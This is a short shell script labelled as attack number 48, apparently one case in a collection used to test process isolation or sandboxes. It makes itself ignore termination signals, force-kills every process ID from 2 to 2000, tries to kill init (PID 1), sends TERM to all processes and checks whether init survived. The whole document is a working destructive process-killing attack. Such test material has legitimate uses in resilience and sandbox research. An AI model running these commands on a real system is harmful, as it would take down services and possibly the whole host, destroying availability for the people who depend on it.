# attacks: 48: whoever answers to a number
trap '' TERM HUP INT
for pid in $(seq 2 2000); do
    if [ "$pid" != $$ ] && kill -KILL "$pid" 2> /dev/null; then echo "killed $pid"; fi
done
kill -KILL 1 2> /dev/null
kill -TERM -1 2> /dev/null
kill -0 1 2> /dev/null || echo "init is gone"
echo held
